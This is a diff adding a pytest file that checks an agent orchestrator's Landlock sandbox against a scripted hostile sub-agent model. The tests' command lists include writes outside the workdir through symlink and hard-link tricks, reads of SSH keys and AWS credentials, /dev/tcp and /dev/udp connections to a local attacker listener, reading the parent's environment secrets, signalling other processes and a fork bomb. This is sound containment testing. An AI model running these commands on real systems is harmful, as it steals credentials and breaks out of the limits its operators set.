@@ -1,0 +1,307 @@
+"""The OS sandbox of a sub-agent, attacked from real children through the real tools.
+
+Every run here uses the default settings (``sandbox = "workspace"``), a real model
+client talking to a local model server, and bash commands a hostile model would send.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import socket
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import sandbox_models
+from agentcell.orchestrator import AgentDefinition, Orchestrator, Settings
+from agentcell.protocol import RunStatus
+from agentcell.worker import probe_sandbox
+from agentcell.worker.testing import FunctionModel
+from conftest import SpawnRecorder
+from delegation_util import gate
+from model_servers import Call, ModelServer, Reply
+
+CAPS = probe_sandbox()
+pytestmark = pytest.mark.skipif(
+    not CAPS["landlock_scopes"], reason="needs Landlock ABI 6 (this project's CI has 7)"
+)
+SEP = "\n=====\n"
+
+
+def bash_script(commands: list[str], *, timeout_s: float = 20) -> Any:
+    """A model-server responder that runs ``commands`` one by one in bash, then answers
+    with every output, in order, joined by ``SEP``."""
+
+    def respond(body: dict[str, Any], api: str) -> Reply:
+        outputs = [m["content"] for m in body["messages"] if m["role"] == "tool"]
+        if len(outputs) < len(commands):
+            command = commands[len(outputs)]
+            return Reply(tool_calls=[Call("bash", {"command": command, "timeout_s": timeout_s})])
+        return Reply(text=SEP.join(outputs))
+
+    return respond
+
+
+def agent(name: str, tools: list[str], **fields: Any) -> AgentDefinition:
+    return AgentDefinition(
+        name=name, description=name, tools=tools, model="openai:test", source="test", **fields
+    )
+
+
+@pytest.fixture
+def served(model_server: ModelServer, monkeypatch: pytest.MonkeyPatch) -> Iterator[ModelServer]:
+    monkeypatch.setenv("OPENAI_BASE_URL", model_server.openai_base_url)
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-sandbox-test-key")
+    yield model_server
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[int, list[socket.socket]]]:
+    """An "attacker" TCP listener on 127.0.0.1 that records every connection it gets."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.setblocking(False)
+    accepted: list[socket.socket] = []
+    try:
+        yield server.getsockname()[1], accepted
+    finally:
+        while True:
+            try:
+                accepted.append(server.accept()[0])
+            except BlockingIOError:
+                break
+        for conn in accepted:
+            conn.close()
+        server.close()
+
+
+async def test_workspace_sandbox_walls_bash_in_and_keeps_the_workdir_usable(
+    spawned: SpawnRecorder,
+    tmp_path: Path,
+    served: ModelServer,
+    monkeypatch: pytest.MonkeyPatch,
+    listener: tuple[int, list[socket.socket]],
+) -> None:
+    work, outside, home = tmp_path / "work", tmp_path / "outside", tmp_path / "home"
+    for folder in (work, outside, home / ".ssh", home / ".aws"):
+        folder.mkdir(parents=True)
+    (home / ".ssh" / "id_ed25519").write_text("PRIVATE-KEY-MATERIAL\n")
+    (home / ".aws" / "credentials").write_text("aws_secret_access_key=AWS-SECRET\n")
+    (outside / "existing.txt").write_text("original\n")
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("AGENTCELL_PARENT_SECRET", "parent-only-secret-42")
+    port, accepted = listener
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.1", 0))
+    udp.setblocking(False)
+    me = os.getpid()
+    commands = [
+        "echo work > inside.txt && mkdir -p sub && mv inside.txt sub/ && cat sub/inside.txt",
+        f"echo pwned > {outside}/absolute.txt",
+        "echo pwned > ../outside/dotdot.txt",
+        f"ln -s {outside}/via-symlink.txt link && echo pwned > link",
+        f"ln {outside}/existing.txt hard && echo pwned >> hard",
+        f"cp /dev/null {outside}/existing.txt",
+        "cat $HOME/.ssh/id_ed25519 $HOME/.aws/credentials",
+        f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED",
+        f"tr '\\0' '\\n' < /proc/{me}/environ | grep AGENTCELL_PARENT_SECRET",
+        f"kill -0 {me} && echo SIGNALLED",
+        'echo "tmp=$TMPDIR" && touch "$TMPDIR/scratch" && echo tmp-ok',
+        # The model's port is open to the sub-agent process, never to its commands.
+        f"exec 3<>/dev/tcp/127.0.0.1/{served.port} && echo MODEL-REACHED",
+        # UDP is not Landlock's: the command's own network namespace has none to offer.
+        f"echo leak > /dev/udp/127.0.0.1/{udp.getsockname()[1]} && echo UDP-SENT",
+    ]
+    served.responder = bash_script(commands)
+    orch = Orchestrator(
+        settings=Settings(model="openai:test", approval="allow", max_workers=2, warm_spares=0),
+        workdir=work,
+        agents=[agent("worker", ["bash"])],
+        load_agent_files=False,
+        record=False,
+    )
+    async with orch:
+        result = await asyncio.wait_for(orch.delegate("worker", "go"), 60)
+    # The child reached its model endpoint for every turn, through the sandbox.
+    assert result.status is RunStatus.COMPLETED, result
+    assert len(served.requests) == len(commands) + 1
+    assert result.sandbox.startswith("workspace, landlock abi"), result.sandbox
+    assert "bash no network" in result.sandbox
+    out = result.text.split(SEP)
+    assert len(out) == len(commands), result.text
+    assert out[0].strip() == "work"  # normal work inside the workdir is fine
+    assert (work / "sub" / "inside.txt").read_text() == "work\n"
+    assert sorted(p.name for p in outside.iterdir()) == ["existing.txt"]  # nothing written
+    assert (outside / "existing.txt").read_text() == "original\n"
+    for i in (1, 2, 3, 5):
+        assert "Permission denied" in out[i], out[i]
+    assert "Invalid cross-device link" in out[4]  # Landlock refuses the link (EXDEV)
+    assert "PRIVATE-KEY" not in out[6] and "AWS-SECRET" not in out[6]
+    assert "Permission denied" in out[6]
+    assert "CONNECTED" not in out[7] and not accepted
+    assert "parent-only-secret-42" not in out[8]
+    assert "SIGNALLED" not in out[9] and "Operation not permitted" in out[9]
+    assert "tmp-ok" in out[10] and "tmp=/" in out[10]
+    private_tmp = out[10].split("tmp=")[1].split()[0]
+    assert not Path(private_tmp).exists()  # the private temp folder is gone with the child
+    assert "MODEL-REACHED" not in out[11] and "Permission denied" in out[11]
+    assert "UDP-SENT" not in out[12]
+    with pytest.raises(BlockingIOError):
+        udp.recv(100)
+    udp.close()
+
+
+async def test_the_child_itself_reaches_only_its_model_endpoint(
+    spawned: SpawnRecorder,
+    tmp_path: Path,
+    served: ModelServer,
+    listener: tuple[int, list[socket.socket]],
+) -> None:
+    # python in bash under network: true (the stacked no-network domain is off) still
+    # runs inside the child's own domain, which allows TCP to the model's port only.
+    port, accepted = listener
+    probe = (
+        "python3 -c 'import socket,sys;"
+        f'socket.create_connection(("127.0.0.1", {port}), timeout=5);print("CONNECTED")\''
+    )
+    served.responder = bash_script([probe])
+    orch = Orchestrator(
+        settings=Settings(
+            model="openai:test", approval="allow", max_workers=2, warm_spares=0, network=True
+        ),
+        workdir=tmp_path,
+        agents=[agent("worker", ["bash"])],
+        load_agent_files=False,
+        record=False,
+    )
+    async with orch:
+        result = await asyncio.wait_for(orch.delegate("worker", "go"), 60)
+    assert result.status is RunStatus.COMPLETED, result
+    assert "bash network" in result.sandbox and f"own tcp: {served.port}" in result.sandbox
+    assert "CONNECTED" not in result.text and "PermissionError" in result.text
+    assert not accepted
+
+
+async def test_a_fork_bomb_ends_that_sub_agent_with_limit_and_nothing_else(
+    spawned: SpawnRecorder, tmp_path: Path, served: ModelServer
+) -> None:
+    # Bounded: 200 sleeping processes would be harmless without the cap, and the command
+    # gives up by itself, so a broken cap fails the test instead of the machine.
+    bomb = "for i in $(seq 200); do sleep 20 & done; wait"
+    served.responder = bash_script([bomb, "echo second command ran"], timeout_s=15)
+    orch = Orchestrator(
+        settings=Settings(model="openai:test", approval="allow", max_workers=2, warm_spares=0),
+        workdir=tmp_path,
+        agents=[agent("bomber", ["bash"], max_processes=40), agent("quiet", ["bash"])],
+        load_agent_files=False,
+        record=False,
+    )
+    async with orch:
+        bomber = await asyncio.wait_for(orch.delegate("bomber", "go"), 60)
+        served.responder = bash_script(["echo fine"])
+        quiet = await asyncio.wait_for(orch.delegate("quiet", "go"), 60)
+    assert bomber.status is RunStatus.LIMIT, bomber
+    assert bomber.sandbox.startswith("workspace, landlock abi")  # it reported before the end
+    assert "max_processes=40" in bomber.error
+    assert quiet.status is RunStatus.COMPLETED and quiet.text.strip() == "fine"
+
+
+async def test_a_sub_agent_cannot_signal_its_sibling(
+    spawned: SpawnRecorder, tmp_path: Path
+) -> None:
+    # The victim writes its process id, then waits at a gate; the attacker signals it.
+    async with gate() as g:
+        victim_model = FunctionModel(sandbox_models.write_pid_then_wait, name="function:victim")
+        attacker_model = FunctionModel(sandbox_models.signal_the_pid, name="function:attacker")
+        orch = Orchestrator(
+            settings=Settings(
+                model="scripted:echo", approval="allow", max_workers=3, warm_spares=0
+            ),
+            workdir=tmp_path,
+            agents=[
+                AgentDefinition(
+                    name="victim", model="function:victim", tools=["bash", "wait_at_gate"]
+                ),
+                AgentDefinition(name="attacker", model="function:attacker", tools=["bash"]),
+            ],
+            models={"function:victim": victim_model, "function:attacker": attacker_model},
+            tools=[g.tool()],
+            load_agent_files=False,
+            record=False,
+        )
+        async with orch:
+            victim = asyncio.create_task(orch.delegate("victim", "wait"))
+            await asyncio.wait_for(g.wait_arrivals(1), 60)
+            attacker = await asyncio.wait_for(orch.delegate("attacker", "attack"), 60)
+            g.open()
+            victim_result = await asyncio.wait_for(victim, 60)
+    assert attacker.status is RunStatus.COMPLETED, attacker
+    assert "Operation not permitted" in attacker.text and "SIGNALLED" not in attacker.text
+    assert victim_result.status is RunStatus.COMPLETED, victim_result
+
+
+def test_probe_reports_what_this_machine_enforces() -> None:
+    assert CAPS["landlock_abi"] >= 6 and CAPS["landlock_tcp"] and CAPS["landlock_files"]
+    assert set(json.loads(json.dumps(CAPS))) == set(CAPS)
+
+
+def git_repo(repo: Path) -> Path:
+    repo.mkdir()
+    for args in (["init", "-q"], ["config", "user.email", "t@t"], ["config", "user.name", "t"]):
+        subprocess.run(["git", *args], cwd=repo, check=True)
+    (repo / "README.md").write_text("hello\n")
+    subprocess.run(["git", "add", "."], cwd=repo, check=True)
+    subprocess.run(["git", "commit", "-qm", "init"], cwd=repo, check=True)
+    return repo
+
+
+async def test_git_works_in_a_worktree_and_read_only_mode_keeps_the_workdir_unchanged(
+    spawned: SpawnRecorder, tmp_path: Path, served: ModelServer
+) -> None:
+    repo = git_repo(tmp_path / "repo")
+    served.responder = bash_script(
+        ["git log --oneline | wc -l && echo changed >> README.md && git status --short"]
+    )
+    orch = Orchestrator(
+        settings=Settings(model="openai:test", approval="allow", max_workers=2, warm_spares=0),
+        workdir=repo,
+        agents=[
+            agent("tree", ["bash"], isolation="worktree"),
+            agent("reader", ["bash"], sandbox="read-only"),
+            agent("loose", ["bash"], sandbox="off"),
+        ],
+        load_agent_files=False,
+        run_dir=tmp_path / "run",
+    )
+    async with orch:
+        tree = await asyncio.wait_for(orch.delegate("tree", "go"), 60)
+        reader = await asyncio.wait_for(orch.delegate("reader", "go"), 60)
+        served.responder = bash_script(["echo $TMPDIR"])
+        loose = await asyncio.wait_for(orch.delegate("loose", "go"), 60)
+    assert tree.status is RunStatus.COMPLETED, tree
+    assert tree.text.split() == ["1", "M", "README.md"], tree.text  # git read and wrote
+    assert tree.worktree is not None  # the change is kept in the worktree, as before
+    assert reader.sandbox.startswith("read-only")
+    assert "Permission denied" in reader.text and (repo / "README.md").read_text() == "hello\n"
+    # A definition may narrow the mode, never widen it: "off" still ran in the workspace.
+    assert loose.sandbox.startswith("workspace") and "agentcell-sandbox" in loose.text
+
+
+async def test_a_crashed_child_is_recorded_with_the_mode_it_was_asked_to_apply(
+    spawned: SpawnRecorder, tmp_path: Path, served: ModelServer
+) -> None:
+    served.responder = bash_script(["kill -9 $PPID"])  # bash may still end its own agent
+    orch = Orchestrator(
+        settings=Settings(model="openai:test", approval="allow", max_workers=2, warm_spares=0),
+        workdir=tmp_path,
+        agents=[agent("doomed", ["bash"])],
+        load_agent_files=False,
+        record=False,
+    )
+    async with orch:
+        doomed = await asyncio.wait_for(orch.delegate("doomed", "go"), 60)
+    assert doomed.status is RunStatus.CRASHED, doomed
+    assert doomed.sandbox == "workspace (requested; not confirmed by the child)"
